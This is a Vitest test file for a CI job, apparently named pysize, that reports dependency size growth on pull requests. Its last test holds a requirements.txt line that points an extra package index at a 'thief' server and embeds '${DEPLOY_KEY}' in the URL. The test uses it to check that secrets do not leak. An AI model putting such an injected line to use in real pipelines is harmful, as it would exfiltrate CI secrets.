import { describe, expect, test } from 'vitest'
import { indexOf, wheel } from '../scenarios/support.ts'
import { onTestEnd } from '../support/cleanup.ts'
import { serve } from '../support/http-server.ts'
import { pullRequestJob } from './pull-request-job.ts'

const files = [
  wheel('web 1.0', { requires: ['jinja'], size: 4_000_000 }),
  wheel('jinja 3.0', { size: 2_000_000 }),
  wheel('torch 2.9', { requires: ['nvidia-cublas'], size: 9_000_000 }),
  wheel('nvidia-cublas 12.8', { size: 30_000_000 }),
  wheel('tiny 1.0', { size: 2_000 }),
]

/** A project that uses an index of the test, with further settings. */
async function project(requirements: string, settings = '') {
  const { index } = await indexOf(files)
  const pyproject = (more: string): string =>
    `[tool.pysize]\npython = "3.11"\ncompile = false\nindex-url = "${index}"\n${more}`
  return { 'requirements.txt': requirements, 'pyproject.toml': pyproject(settings), pyproject }
}

const job = async (before: string, after: string, settings = '') => {
  const { pyproject: _, ...base } = await project(before, settings)
  return pullRequestJob(base, { 'requirements.txt': after })
}

describe('the comment', () => {
  test('is written once, and updated with the pull request', async () => {
    const { github, push, run } = await job('web\n', 'web\ntorch\n')
    const first = await run()
    expect(first).toMatchObject({ code: 0, outputs: { result: 'passed', comment: 'created' } })
    expect(Number(first.outputs.growth)).toBeGreaterThan(39_000_000)
    expect(github.comments.map(({ body }) => body)).toEqual([
      expect.stringMatching(/^<!-- pysize default -->\n### pysize\n[\s\S]*torch/),
    ])
    expect(first.summary).toContain('nvidia-cublas')

    push({ 'requirements.txt': 'web\ntorch\ntiny\n' })
    expect(await run()).toMatchObject({ outputs: { comment: 'updated' } })
    expect(github.comments).toHaveLength(1)
    expect(github.comments[0]?.body).toContain('tiny')

    push({ 'requirements.txt': 'web\n', 'README.md': 'Hello' })
    expect(await run()).toMatchObject({ code: 0, outputs: { comment: 'removed', growth: '0' } })
    expect(github.comments).toEqual([])
  })

  test('is not written for a tiny change', async () => {
    const { github, run } = await job('web\n', 'web\ntiny\n')
    const { outputs, summary } = await run()
    expect(outputs).toMatchObject({ result: 'passed', comment: 'none' })
    expect(summary).toContain('tiny')
    expect(github.comments).toEqual([])
  })

  test('is distinguished from those of people and other workflows, and duplicates are removed', async () => {
    const { github, run } = await job('web\n', 'web\ntorch\n')
    const marker = '<!-- pysize default -->\n'
    const [bot, person] = [
      { login: 'github-actions[bot]', type: 'Bot' },
      { login: 'stranger', type: 'User' },
    ]
    const others = Array.from({ length: 150 }, (_, id) => ({
      id,
      body: 'Looks good',
      user: person,
    }))
    github.comments.push(
      ...others,
      { id: 200, body: `${marker}All fine`, user: person },
      { id: 201, body: '<!-- pysize nightly -->\nold', user: bot },
      { id: 202, body: `${marker}old`, user: bot },
      { id: 203, body: `${marker}doubled`, user: bot },
    )
    expect(await run()).toMatchObject({ outputs: { comment: 'updated' } })
    const left = github.comments.filter(({ id }) => id >= 200)
    expect(left.map(({ id }) => id)).toEqual([200, 201, 202])
    expect(left.map(({ body }) => body.includes('torch'))).toEqual([false, false, true])
  })

  test('is replaced by the summary if the token cannot write, as for forks and Dependabot', async () => {
    const { github, run } = await job('web\n', 'web\ntorch\n')
    github.readOnly = true
    const result = await run({ isFork: true })
    expect(result).toMatchObject({ code: 0, outputs: { comment: 'forbidden', result: 'passed' } })
    expect(result.commands).toBe(
      '::notice title=pysize::GitHub answered 403 to the request to comment: the report is in the summary of this job.\n',
    )
    expect(result.summary).toContain('nvidia-cublas')
  })

  test('for a fork is written by a second workflow', async () => {
    const { github, run } = await job('web\n', 'web\ntorch\n')
    expect(await run({ event: 'workflow_run' })).toMatchObject({
      code: 0,
      outputs: { comment: 'created' },
    })
    expect(github.requests[0]).toBe('GET /pulls?state=open&head=stranger%3Atopic')
    expect(github.comments[0]?.body).toContain('torch')
  })
})

describe('the job', () => {
  test('fails if the environment grows more than allowed', async () => {
    const { run } = await job('web\n', 'web\ntorch\n')
    const { code, commands, outputs } = await run({ inputs: { 'fail-if-grows': '10MB' } })
    expect([code, outputs.result]).toEqual([1, 'failed'])
    expect(commands).toMatch(
      /^::error file=requirements\.txt,line=2,title=pysize::requirements\.txt: \+39\.\d MB on disk, at most 10\.0 MB allowed\.\n$/,
    )
  })

  test('applies the budget of the base to a pull request', async () => {
    const { pyproject, ...base } = await project('web\n', 'budget = "20MB"\n')
    const { run } = await pullRequestJob(base, {
      'requirements.txt': 'web\ntorch\n',
      'pyproject.toml': pyproject('budget = "1GB"\n'),
    })
    const { code, commands } = await run()
    expect(code).toBe(1)
    expect(commands).toMatch(
      /requirements\.txt: 45\.\d MB, 25\.\d MB over the budget of 20\.0 MB\./,
    )
  })

  test("applies the settings of the base's organisation to a pull request", async () => {
    const organisation = await serve(() => ({
      body: '[tool.pysize]\nbudget = "20MB"\ntargets = ["3.11", "3.12 linux/arm64"]\n',
    }))
    onTestEnd(() => organisation.close())
    const { pyproject, ...base } = await project(
      'web\n',
      `extends = "${organisation.url}/pysize.toml"\n`,
    )
    const { run } = await pullRequestJob(base, {
      'requirements.txt': 'web\ntorch\n',
      'pyproject.toml': pyproject(`extends = "${organisation.url}/other.toml"\nbudget = "1GB"\n`),
    })
    const { code, commands, summary } = await run()
    expect(code).toBe(1)
    expect(commands).toMatch(/45\.\d MB, 25\.\d MB over the budget of 20\.0 MB/)
    expect(summary).toContain('3.12 linux/arm64')
    expect(new Set(organisation.requests.map(({ path }) => path))).toEqual(
      new Set(['/pysize.toml']),
    )
  })

  test('fails for a denied package, with its path', async () => {
    const { run } = await job('web\n', 'web\ntorch\n', 'deny = "nvidia-*"\n')
    const { code, commands } = await run()
    expect(code).toBe(1)
    expect(commands).toBe(
      '::error file=requirements.txt,line=2,title=pysize::requirements.txt: nvidia-cublas 12.8 is denied by nvidia-*. It comes from torch > nvidia-cublas.\n',
    )
  })

  test('compares each target that the base names', async () => {
    const { run } = await job('web\n', 'web\ntorch\n', 'targets = ["3.11", "3.12 linux/arm64"]\n')
    const { summary } = await run()
    expect(summary).toMatch(/<details><summary>3\.12 linux\/arm64: \+39\.\d MB on disk<\/summary>/)
  })

  test('says nothing about a change that installs nothing else', async () => {
    const { github, push, run } = await job('web\n', 'web\n')
    push({ 'README.md': 'Hello' })
    expect(await run()).toMatchObject({ code: 0, outputs: { result: 'passed', comment: 'none' } })
    expect(github.requests.filter((one) => !one.startsWith('GET'))).toEqual([])
  })

  test('has nothing to do for another event', async () => {
    const { run } = await job('web\n', 'web\ntorch\n')
    expect(await run({ event: 'push' })).toEqual({
      code: 0,
      commands: '::notice title=pysize::There is no open pull request to compare: push.\n',
      summary: '',
      outputs: {},
    })
  })

  test('fails for a head that cannot be resolved, at its line, and not for such a base', async () => {
    const broken = await job('web\n', 'web\nno-such-project\n')
    const { code, commands } = await broken.run()
    expect(code).toBe(1)
    expect(commands).toMatch(
      /^::error file=requirements\.txt,line=2,title=pysize::In [0-9a-f]{12}: .*no-such-project/,
    )
    const repaired = await job('web\nno-such-project\n', 'web\n')
    expect(await repaired.run()).toMatchObject({ code: 0 })
  })
})

describe('an index that cannot be used', () => {
  const offline = () =>
    pullRequestJob(
      {
        'requirements.txt': 'web\n',
        'pyproject.toml': '[tool.pysize]\nindex-url = "http://127.0.0.1:9/simple/"\n',
      },
      { 'requirements.txt': 'web\ntorch\n' },
    )

  test('decides nothing, and is reported', async () => {
    const { run } = await offline()
    const { code, commands, outputs, summary } = await run()
    expect([code, outputs.result]).toEqual([0, 'neutral'])
    expect(commands).toMatch(/^::warning title=pysize::/)
    expect(summary).toContain('127.0.0.1:9')
  })

  test("decides nothing if the organisation's settings cannot be read", async () => {
    const { pyproject: _, ...base } = await project(
      'web\n',
      'extends = "http://127.0.0.1:9/a.toml"\n',
    )
    const { run } = await pullRequestJob(base, { 'requirements.txt': 'web\ntorch\n' })
    const { code, outputs, summary } = await run()
    expect([code, outputs.result]).toEqual([0, 'neutral'])
    expect(summary).toContain('//127.0.0.1:9/a.toml')
  })

  test('fails the job if the workflow says so', async () => {
    const { run } = await offline()
    expect(await run({ inputs: { 'on-index-error': 'fail' } })).toMatchObject({
      code: 1,
      outputs: { result: 'failed' },
    })
  })
})

test("a stranger's files see no variable of the job", async () => {
  const { index } = await indexOf(files)
  const seen: string[] = []
  const thief = await indexOf([], { intercept: ({ path }) => void seen.push(path) })
  const change = {
    'requirements.txt': `--extra-index-url ${thief.url}/\${DEPLOY_KEY}\${NO_PROXY}\nweb\ntorch\n`,
  }
  const { run } = await pullRequestJob(
    { 'requirements.txt': `--index-url ${index}\nweb\n` },
    change,
  )
  await run({
    event: 'workflow_run',
    env: { DEPLOY_KEY: 'canary', ALL_PROXY: '', NO_PROXY: 'canary,127.0.0.1' },
  })
  expect(seen.join()).not.toContain('canary')
  expect(seen.length).toBeGreaterThan(0)
})
